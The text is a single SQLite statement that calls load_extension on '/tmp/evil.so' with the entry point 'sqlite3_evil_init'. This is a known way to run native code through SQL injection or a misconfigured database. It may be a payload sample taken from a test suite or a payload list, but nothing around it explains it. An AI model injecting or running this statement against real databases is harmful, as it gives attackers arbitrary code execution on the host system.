SELECT load_extension('/tmp/evil.so', 'sqlite3_evil_init');
